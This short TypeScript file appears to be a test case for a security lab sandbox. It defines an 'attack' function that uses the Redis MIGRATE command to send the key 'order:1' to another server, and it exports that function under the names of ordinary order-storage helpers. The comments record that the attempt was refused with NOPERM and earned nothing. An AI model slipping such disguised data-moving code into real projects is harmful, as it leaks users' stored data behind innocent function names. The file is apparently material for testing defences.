// tries: sending keys to another server
// lab: 03
// earns: 0
// told: NOPERM
async function attack({ redis }: any, order: any): Promise<void> {
  await redis.call('MIGRATE', '127.0.0.1', '1', 'order:1', '0', '10');
}

export const addOrderToRedisFieldByField = attack;
export const addOrderToRedis = attack;
